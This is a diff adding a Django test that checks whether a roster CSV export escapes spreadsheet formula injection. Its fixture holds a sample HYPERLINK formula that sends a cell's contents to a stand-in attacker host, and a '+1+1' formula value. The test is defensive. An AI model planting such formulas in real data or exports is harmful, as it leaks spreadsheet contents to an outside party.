@@ -258,3 +258,18 @@ def test_the_dashboard_shows_the_next_meeting_and_its_replies(client, world, rol
     text = _as(client, world, role).get(reverse("wagtailadmin_home")).content.decode()
     shows = "Network A, " in text and "1 coming, 0 not coming, of 1 invited" in text
     assert shows == (role in ALLOWED)
+
+
+def test_the_roster_export_runs_no_formula(client, world):
+    RosterMember.objects.create(
+        network=world["a"],
+        name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        email="evil@school.example",
+        organisation="+1+1",
+    )
+    client.force_login(world["users"]["lead of A"])
+    response = client.get(reverse("roster:index") + "?export=csv")
+    text = b"".join(response.streaming_content).decode()
+    assert "'=HYPERLINK" in text
+    assert "'+1+1" in text
+    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
